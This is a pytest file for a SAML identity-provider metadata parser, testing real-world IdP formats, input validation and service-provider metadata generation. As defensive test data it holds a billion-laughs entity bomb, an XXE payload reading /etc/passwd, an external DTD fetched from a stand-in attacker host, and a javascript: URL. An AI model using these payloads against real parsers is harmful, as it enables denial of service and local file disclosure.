"""IdP metadata as the big IdPs publish it parses; anything unusable or hostile is one MetadataInvalid."""

import datetime as dt
import textwrap
from collections.abc import Callable
from pathlib import Path

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.x509.oid import NameOID
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree
from onelogin.saml2.idp_metadata_parser import OneLogin_Saml2_IdPMetadataParser
from onelogin.saml2.settings import OneLogin_Saml2_Settings

from resolvers.errors import DomainError
from resolvers.saml_metadata import (
    HTTP_POST,
    HTTP_REDIRECT,
    MAX_METADATA_BYTES,
    NAMEID_EMAIL,
    NAMEID_PERSISTENT,
    NAMEID_UNSPECIFIED,
    IdpMetadata,
    MetadataInvalid,
    idp_settings_from_fields,
    parse_idp_metadata,
    sp_metadata_xml,
)
from resolvers.sp_certificates import SpCertificate, certificate_body, fingerprint, new_sp_certificate

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "saml"
MD = "urn:oasis:names:tc:SAML:2.0:metadata"
DS = "http://www.w3.org/2000/09/xmldsig#"


def make_certificate(common_name: str, not_valid_after: dt.datetime) -> str:
    """A self-signed RSA-2048 certificate expiring when asked (2048: fast, and IdPs still use it)."""
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, common_name)])
    certificate = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(not_valid_after - dt.timedelta(days=3 * 365))
        .not_valid_after(not_valid_after)
        .sign(key, hashes.SHA256())
    )
    return certificate.public_bytes(serialization.Encoding.PEM).decode()


EXPIRIES = (
    dt.datetime(2027, 3, 1, 12, 0, tzinfo=dt.UTC),
    dt.datetime(2029, 6, 15, 8, 30, tzinfo=dt.UTC),
    dt.datetime(2031, 1, 2, 0, 0, tzinfo=dt.UTC),
)


@pytest.fixture(scope="module")
def certificates() -> tuple[str, ...]:
    return tuple(make_certificate(f"idp signing {n}", expiry) for n, expiry in enumerate(EXPIRIES, 1))


Fixture = Callable[[str], str]


@pytest.fixture(scope="module")
def fixture(certificates: tuple[str, ...]) -> Fixture:
    """A fixture file with its certificate placeholders filled in."""

    def load(name: str) -> str:
        text = (FIXTURES / name).read_text()
        for number, pem in enumerate(certificates, 1):
            body = certificate_body(pem)
            text = text.replace(
                f"{{{{CERT_{number}_LINES}}}}", "\n" + "\n".join(textwrap.wrap(body, 64)) + "\n"
            )
            text = text.replace(f"{{{{CERT_{number}}}}}", body)
        assert "{{" not in text
        return text

    return load


def minimal_idp(
    *,
    sso: str = f'<md:SingleSignOnService Binding="{HTTP_REDIRECT}" Location="https://idp.example.com/sso"/>',
    keys: str = "",
    entity_id: str = "https://idp.example.com/metadata",
    descriptor_attributes: str = 'protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol"',
) -> str:
    return (
        f'<md:EntityDescriptor xmlns:md="{MD}" xmlns:ds="{DS}" entityID="{entity_id}">'
        f"<md:IDPSSODescriptor {descriptor_attributes}>{keys}{sso}</md:IDPSSODescriptor>"
        "</md:EntityDescriptor>"
    )


def signing_key(body: str, use: str = ' use="signing"') -> str:
    return (
        f"<md:KeyDescriptor{use}><ds:KeyInfo><ds:X509Data><ds:X509Certificate>{body}"
        "</ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor>"
    )


# --- real-world shapes ---------------------------------------------------------------------------


def test_okta(fixture: Fixture, certificates: tuple[str, ...]) -> None:
    idp = parse_idp_metadata(fixture("okta.xml").encode())
    sso = "https://example.okta.com/app/exampleorg_tenantry_1/exk1fcia6d6EMsf331d8/sso/saml"
    assert idp.entity_id == "http://www.okta.com/exk1fcia6d6EMsf331d8"
    assert (idp.sso_url, idp.sso_binding) == (sso, HTTP_REDIRECT), "Redirect preferred though POST is first"
    assert idp.sso_post_url == idp.sso_redirect_url == sso
    assert [c.pem for c in idp.signing_certificates] == [certificates[0]]
    assert idp.signing_certificates[0].not_valid_after == EXPIRIES[0]
    assert idp.name_id_formats == (NAMEID_UNSPECIFIED, NAMEID_EMAIL)
    assert idp.want_authn_requests_signed is False


def test_entra_id_with_several_certificates_and_both_bindings(
    fixture: Fixture, certificates: tuple[str, ...]
) -> None:
    idp = parse_idp_metadata(fixture("entra-id.xml"))
    tenant = "8c2f6b1e-4d3a-4f7b-9e21-0a5c3d7e9b42"
    assert idp.entity_id == f"https://sts.windows.net/{tenant}/"
    assert idp.sso_binding == HTTP_REDIRECT
    assert idp.sso_url == idp.sso_redirect_url == f"https://login.microsoftonline.com/{tenant}/saml2"
    assert idp.sso_post_url == f"https://login.microsoftonline.com/{tenant}/saml2/post"
    # only the IDPSSODescriptor's keys count (not the WS-Fed RoleDescriptor's nor the document signature's)
    assert [c.pem for c in idp.signing_certificates] == list(certificates)
    assert [c.not_valid_after for c in idp.signing_certificates] == list(EXPIRIES)
    assert [c.fingerprint_sha256 for c in idp.signing_certificates] == [fingerprint(p) for p in certificates]
    assert idp.certificates_expire_at == EXPIRIES[2]
    assert idp.name_id_formats == ()


def test_google_workspace_with_a_wrapped_certificate(fixture: Fixture, certificates: tuple[str, ...]) -> None:
    idp = parse_idp_metadata(fixture("google-workspace.xml").encode())
    assert idp.entity_id == "https://accounts.google.com/o/saml2?idpid=C03x7kq2v"
    assert idp.sso_url == "https://accounts.google.com/o/saml2/idp?idpid=C03x7kq2v"
    assert idp.sso_binding == HTTP_REDIRECT
    assert [c.pem for c in idp.signing_certificates] == [certificates[0]]
    assert idp.name_id_formats == (NAMEID_EMAIL,)


def test_onelogin_in_the_default_namespace_with_a_soap_endpoint(fixture: Fixture) -> None:
    idp = parse_idp_metadata(fixture("onelogin.xml"))
    assert idp.entity_id == "https://app.onelogin.com/saml/metadata/4b7e2c1a-9d3f-4e8b-a1c6-0f2d5e8b7c39"
    assert idp.sso_url == (
        "https://example-org.onelogin.com/trust/saml2/http-redirect/sso/4b7e2c1a-9d3f-4e8b-a1c6-0f2d5e8b7c39"
    )
    assert idp.sso_post_url == (
        "https://example-org.onelogin.com/trust/saml2/http-post/sso/4b7e2c1a-9d3f-4e8b-a1c6-0f2d5e8b7c39"
    )
    assert idp.signing_certificates[0].not_valid_after == EXPIRIES[0]


@pytest.mark.parametrize("name", ["okta.xml", "entra-id.xml", "google-workspace.xml", "onelogin.xml"])
def test_python3_saml_reads_the_fixtures_the_same_way(fixture: Fixture, name: str) -> None:
    """A second, independent reader agrees on entity ID, SSO URL and certificates."""
    ours = parse_idp_metadata(fixture(name))
    theirs = OneLogin_Saml2_IdPMetadataParser.parse(fixture(name))["idp"]
    assert theirs["entityId"] == ours.entity_id
    assert theirs["singleSignOnService"]["url"] == ours.sso_url
    their_certificates = theirs.get("x509certMulti", {}).get("signing") or [theirs["x509cert"]]
    assert [fingerprint(body) for body in their_certificates] == [
        c.fingerprint_sha256 for c in ours.signing_certificates
    ]


def test_an_entities_descriptor_with_one_idp_among_sps_is_that_idp(fixture: Fixture) -> None:
    okta = fixture("okta.xml").split("?>", 1)[1]
    sp = f'<md:EntityDescriptor xmlns:md="{MD}" entityID="https://sp.example.com"><md:SPSSODescriptor/></md:EntityDescriptor>'
    document = f'<md:EntitiesDescriptor xmlns:md="{MD}">{sp}{okta}</md:EntitiesDescriptor>'
    assert parse_idp_metadata(document).entity_id == "http://www.okta.com/exk1fcia6d6EMsf331d8"


def test_post_only_and_keys_without_use_are_accepted(certificates: tuple[str, ...]) -> None:
    post_only = f'<md:SingleSignOnService Binding="{HTTP_POST}" Location="https://idp.example.com/post"/>'
    idp = parse_idp_metadata(
        minimal_idp(
            sso=post_only,
            keys=signing_key(certificate_body(certificates[1]), use="")
            + signing_key(certificate_body(certificates[2]), use=' use="encryption"'),
            descriptor_attributes='WantAuthnRequestsSigned="1" '
            'protocolSupportEnumeration="urn:oasis:names:tc:SAML:1.1:protocol urn:oasis:names:tc:SAML:2.0:protocol"',
        )
    )
    assert (idp.sso_url, idp.sso_binding, idp.sso_redirect_url) == (
        "https://idp.example.com/post",
        HTTP_POST,
        None,
    )
    assert [c.pem for c in idp.signing_certificates] == [certificates[1]], "encryption-only keys do not sign"
    assert idp.want_authn_requests_signed is True


def test_a_repeated_certificate_is_listed_once(certificates: tuple[str, ...]) -> None:
    body = certificate_body(certificates[0])
    idp = parse_idp_metadata(minimal_idp(keys=signing_key(body) + signing_key("\n" + body + "\n")))
    assert len(idp.signing_certificates) == 1


def test_a_local_test_idp_may_use_http_on_loopback(certificates: tuple[str, ...]) -> None:
    sso = f'<md:SingleSignOnService Binding="{HTTP_REDIRECT}" Location="http://127.0.0.1:8080/sso"/>'
    idp = parse_idp_metadata(minimal_idp(sso=sso, keys=signing_key(certificate_body(certificates[0]))))
    assert idp.sso_url == "http://127.0.0.1:8080/sso"


def test_a_text_with_an_encoding_declaration_is_read_as_text(fixture: Fixture) -> None:
    text = fixture("okta.xml").replace('encoding="UTF-8"', 'encoding="ISO-8859-1"')
    assert parse_idp_metadata(text).entity_id == "http://www.okta.com/exk1fcia6d6EMsf331d8"


def test_utf16_bytes_with_a_bom_are_read(fixture: Fixture) -> None:
    data = fixture("onelogin.xml").replace('<?xml version="1.0"?>', "").encode("utf-16")
    assert parse_idp_metadata(data).entity_id.startswith("https://app.onelogin.com/")


# --- refusals ------------------------------------------------------------------------------------


def refused(xml: bytes | str) -> str:
    with pytest.raises(MetadataInvalid) as caught:
        parse_idp_metadata(xml)
    assert isinstance(caught.value, DomainError)
    assert caught.value.code == "metadata_invalid"
    return caught.value.message


@pytest.mark.parametrize(
    ("document", "message"),
    [
        ("", "is empty"),
        ("   \n", "empty"),
        ("this is not xml", "not well-formed XML"),
        ("<md:EntityDescriptor", "not well-formed XML"),
        (b"\xff\xfe\x00<", "not well-formed XML"),
        ("{}", "not well-formed XML"),
        ("<html><body>Sign in</body></html>", "root element is <html>"),
        ('<EntityDescriptor entityID="x"/>', "not in the SAML 2.0 metadata namespace"),
        (f'<md:EntityDescriptor xmlns:md="{MD}" entityID="x"/>', "no IDPSSODescriptor"),
        (
            f'<md:EntityDescriptor xmlns:md="{MD}" entityID="x"><md:SPSSODescriptor/></md:EntityDescriptor>',
            "describes a service provider",
        ),
        (
            f'<md:EntitiesDescriptor xmlns:md="{MD}"/>',
            "contains no EntityDescriptor with an IDPSSODescriptor",
        ),
    ],
)
def test_documents_that_are_not_idp_metadata(document: str | bytes, message: str) -> None:
    assert message in refused(document)


def test_text_with_a_lone_surrogate_is_refused() -> None:
    assert "invalid characters" in refused('<md:EntityDescriptor entityID="\ud800"/>')


def test_several_idps_in_an_entities_descriptor_are_named(fixture: Fixture) -> None:
    okta = fixture("okta.xml").split("?>", 1)[1]
    google = fixture("google-workspace.xml").split("?>", 1)[1]
    message = refused(f'<md:EntitiesDescriptor xmlns:md="{MD}">{okta}{google}</md:EntitiesDescriptor>')
    assert "2 identity providers" in message
    assert "http://www.okta.com/exk1fcia6d6EMsf331d8" in message
    assert "https://accounts.google.com/o/saml2?idpid=C03x7kq2v" in message
    assert "just the one" in message


def test_missing_parts_are_named(certificates: tuple[str, ...]) -> None:
    key = signing_key(certificate_body(certificates[0]))
    assert "entity ID is missing" in refused(minimal_idp(keys=key, entity_id=""))
    assert "whitespace" in refused(minimal_idp(keys=key, entity_id="a b"))
    assert "no SingleSignOnService" in refused(minimal_idp(keys=key, sso=""))
    soap = (
        '<md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:SOAP" Location="https://x/"/>'
    )
    assert "offered: SOAP" in refused(minimal_idp(keys=key, sso=soap))
    assert "no signing certificate" in refused(minimal_idp())
    encryption_only = signing_key(certificate_body(certificates[0]), use=' use="encryption"')
    assert "no signing certificate" in refused(minimal_idp(keys=encryption_only))
    assert "SAML 2.0" in refused(
        minimal_idp(
            keys=key,
            descriptor_attributes='protocolSupportEnumeration="urn:oasis:names:tc:SAML:1.1:protocol"',
        )
    )
    assert "must be true or false" in refused(
        minimal_idp(
            keys=key,
            descriptor_attributes='WantAuthnRequestsSigned="yes" protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol"',
        )
    )


@pytest.mark.parametrize(
    ("location", "message"),
    [
        ("", "has no Location"),
        ("http://idp.example.com/sso", "must be an https URL"),
        ("javascript:alert(1)", "must be an https URL"),
        ("https:///nohost", "must be an https URL"),
        ("https://idp.example.com/a b", "must be an https URL"),
    ],
)
def test_sso_urls_must_be_https(certificates: tuple[str, ...], location: str, message: str) -> None:
    sso = f'<md:SingleSignOnService Binding="{HTTP_REDIRECT}" Location="{location}"/>'
    assert message in refused(minimal_idp(sso=sso, keys=signing_key(certificate_body(certificates[0]))))


@pytest.mark.parametrize(
    ("body", "message"),
    [
        ("not-base64!!", "is not valid base64"),
        ("SGVsbG8gd29ybGQ=", "could not be read as X.509"),
        ("", "is empty"),
    ],
)
def test_an_unreadable_certificate_is_named(body: str, message: str) -> None:
    expected = f"The signing certificate cannot be read: the certificate {message}"
    assert expected in refused(minimal_idp(keys=signing_key(body)))


def test_which_of_several_certificates_is_unreadable_is_said(certificates: tuple[str, ...]) -> None:
    keys = signing_key(certificate_body(certificates[0])) + signing_key("AAAA")
    assert "Signing certificate 2 of 2 cannot be read" in refused(minimal_idp(keys=keys))


def test_oversized_metadata_is_refused_before_parsing() -> None:
    padding = " " * MAX_METADATA_BYTES
    assert "at most 512 KiB" in refused(
        minimal_idp().replace("<md:IDPSSODescriptor", padding + "<md:IDPSSODescriptor")
    )


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" entityID="&lol9;"/>
"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE md:EntityDescriptor [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" entityID="x">&xxe;</md:EntityDescriptor>
"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE md:EntityDescriptor SYSTEM "http://attacker.example.com/evil.dtd">
<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" entityID="x"/>
"""


@pytest.mark.parametrize(
    "payload", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD], ids=["laughs", "xxe", "dtd"]
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_doctype_and_entity_payloads_are_refused_without_expansion(payload: str, encoding: str) -> None:
    data: bytes | str = (
        payload if encoding == "utf-8" else payload.replace('<?xml version="1.0"?>', "").encode(encoding)
    )
    message = refused(data)
    assert "DOCTYPE" in message
    assert "lol" not in message and "root:" not in message


@pytest.mark.parametrize(
    "payload", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD], ids=["laughs", "xxe", "dtd"]
)
def test_the_parser_refuses_too_when_the_pre_check_cannot_read_the_encoding(
    payload: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Behind the textual pre-check stands a parser that expands and fetches nothing, then a DOCTYPE check."""
    from resolvers import saml_metadata

    monkeypatch.setattr(saml_metadata, "_text_for_scanning", lambda data: "")
    message = refused(payload)
    assert "DOCTYPE" in message or "entity" in message
    assert "root:" not in message


def test_an_external_entity_is_never_read() -> None:
    parser = etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False)
    root = etree.fromstring(EXTERNAL_ENTITY.encode(), parser)
    assert b"root:" not in etree.tostring(root)
    assert [type(node) for node in root] == [etree._Entity], "the reference stays a reference"


# --- property: nothing but MetadataInvalid escapes -----------------------------------------------


def only_metadata_invalid(data: bytes | str) -> None:
    try:
        parse_idp_metadata(data)
    except MetadataInvalid:
        pass


@settings(max_examples=150, deadline=None)
@given(st.binary(max_size=2000))
def test_arbitrary_bytes_raise_nothing_but_metadata_invalid(data: bytes) -> None:
    only_metadata_invalid(data)


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=2000))
def test_arbitrary_text_raises_nothing_but_metadata_invalid(text: str) -> None:
    only_metadata_invalid(text)


@settings(max_examples=150, deadline=None)
@given(data=st.data())
def test_damaged_real_metadata_raises_nothing_but_metadata_invalid(
    fixture: Fixture, data: st.DataObject
) -> None:
    text = fixture(
        data.draw(st.sampled_from(["okta.xml", "entra-id.xml", "google-workspace.xml", "onelogin.xml"]))
    )
    start = data.draw(st.integers(0, len(text)))
    end = data.draw(st.integers(start, min(len(text), start + 400)))
    insert = data.draw(
        st.text(max_size=40) | st.sampled_from(['"', "<", ">", "&", "&amp;", "<!--", "]]>", "\x00"])
    )
    damaged = text[:start] + insert + text[end:]
    only_metadata_invalid(damaged if data.draw(st.booleans()) else damaged.encode("utf-8", "surrogatepass"))


# --- fields typed in by an admin -----------------------------------------------------------------


def test_fields_are_validated_and_the_certificate_normalised(certificates: tuple[str, ...]) -> None:
    body = "\n".join(textwrap.wrap(certificate_body(certificates[1]), 76))
    idp = idp_settings_from_fields(" https://idp.example.com/entity ", " https://idp.example.com/sso ", body)
    assert idp == IdpMetadata(
        entity_id="https://idp.example.com/entity",
        sso_url="https://idp.example.com/sso",
        sso_binding=HTTP_REDIRECT,
        sso_redirect_url="https://idp.example.com/sso",
        sso_post_url=None,
        signing_certificates=idp.signing_certificates,
        name_id_formats=(),
        want_authn_requests_signed=False,
    )
    assert [c.pem for c in idp.signing_certificates] == [certificates[1]]
    assert idp.signing_certificates[0].not_valid_after == EXPIRIES[1]
    assert idp_settings_from_fields("urn:idp", "https://idp.example.com/sso", certificates[1]) == (
        idp_settings_from_fields("urn:idp", "https://idp.example.com/sso", body)
    )
    post = idp_settings_from_fields("urn:idp", "https://idp.example.com/p", body, sso_binding=HTTP_POST)
    assert (post.sso_binding, post.sso_post_url, post.sso_redirect_url) == (
        HTTP_POST,
        "https://idp.example.com/p",
        None,
    )


@pytest.mark.parametrize(
    ("entity_id", "sso_url", "certificate", "message"),
    [
        ("", "https://idp.example.com/sso", None, "entity ID is missing"),
        ("urn:idp", "http://idp.example.com/sso", None, "must be an https URL"),
        ("urn:idp", "", None, "has no Location"),
        ("urn:idp", "https://idp.example.com/sso", "not a certificate", "signing certificate cannot be read"),
        ("urn:idp", "https://idp.example.com/sso", "", "certificate is empty"),
    ],
)
def test_bad_fields_are_refused(
    certificates: tuple[str, ...], entity_id: str, sso_url: str, certificate: str | None, message: str
) -> None:
    with pytest.raises(MetadataInvalid, match=message):
        idp_settings_from_fields(entity_id, sso_url, certificates[0] if certificate is None else certificate)


# --- our SP metadata, read back by python3-saml --------------------------------------------------


@pytest.fixture(scope="module")
def sp_certificate() -> SpCertificate:
    return new_sp_certificate("tenantry sp")


def test_sp_metadata_is_valid_for_python3_saml_and_says_what_we_asked(sp_certificate: SpCertificate) -> None:
    entity_id = "https://tenantry.example.com/saml/conn_01J/metadata"
    acs_url = "https://tenantry.example.com/saml/conn_01J/acs"
    xml = sp_metadata_xml(
        entity_id=entity_id,
        acs_url=acs_url,
        certificate_pem=sp_certificate.certificate_pem,
        name_id_format=NAMEID_PERSISTENT,
    )
    saml_settings = OneLogin_Saml2_Settings(
        {
            "strict": True,
            "sp": {
                "entityId": entity_id,
                "assertionConsumerService": {"url": acs_url, "binding": HTTP_POST},
                "NameIDFormat": NAMEID_PERSISTENT,
                "x509cert": sp_certificate.certificate_pem,
                "privateKey": sp_certificate.private_key_pem.decode(),
            },
            "security": {"authnRequestsSigned": True, "wantAssertionsSigned": True},
        },
        sp_validation_only=True,
    )
    assert saml_settings.validate_metadata(xml) == [], (
        "valid against the SAML metadata XSD python3-saml ships"
    )

    root = etree.fromstring(xml.encode())
    ns = {"md": MD, "ds": DS}
    assert root.get("entityID") == entity_id
    (descriptor,) = root.findall("md:SPSSODescriptor", ns)
    assert descriptor.get("AuthnRequestsSigned") == "true"
    assert descriptor.get("WantAssertionsSigned") == "true"
    assert root.findtext("md:SPSSODescriptor/md:NameIDFormat", namespaces=ns) == NAMEID_PERSISTENT
    (acs,) = descriptor.findall("md:AssertionConsumerService", ns)
    assert (acs.get("Binding"), acs.get("Location")) == (HTTP_POST, acs_url)
    (key,) = descriptor.findall("md:KeyDescriptor", ns)
    assert key.get("use") == "signing"
    published = key.findtext("ds:KeyInfo/ds:X509Data/ds:X509Certificate", namespaces=ns)
    assert published is not None
    assert fingerprint(published) == sp_certificate.fingerprint_sha256
    # what python3-saml would write for the same SP carries the same certificate
    assert published == saml_settings.get_sp_cert().split("-----")[2].replace("\n", "")


def test_sp_metadata_can_leave_assertion_signing_optional(sp_certificate: SpCertificate) -> None:
    xml = sp_metadata_xml(
        entity_id="urn:tenantry:sp",
        acs_url="https://tenantry.example.com/acs",
        certificate_pem=certificate_body(sp_certificate.certificate_pem),
        name_id_format=NAMEID_EMAIL,
        want_assertions_signed=False,
    )
    assert 'WantAssertionsSigned="false"' in xml
    assert xml.startswith('<?xml version="1.0" encoding="UTF-8"?>')


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"entity_id": " "}, "entity ID"),
        ({"acs_url": "http://tenantry.example.com/acs"}, "https"),
        ({"name_id_format": ""}, "NameID"),
        ({"certificate_pem": "nope"}, "SP certificate cannot be used"),
    ],
)
def test_sp_metadata_refuses_unusable_settings(
    sp_certificate: SpCertificate, changes: dict[str, str], message: str
) -> None:
    arguments = {
        "entity_id": "urn:tenantry:sp",
        "acs_url": "https://tenantry.example.com/acs",
        "certificate_pem": sp_certificate.certificate_pem,
        "name_id_format": NAMEID_EMAIL,
    } | changes
    with pytest.raises(DomainError, match=message):
        sp_metadata_xml(
            entity_id=arguments["entity_id"],
            acs_url=arguments["acs_url"],
            certificate_pem=arguments["certificate_pem"],
            name_id_format=arguments["name_id_format"],
        )
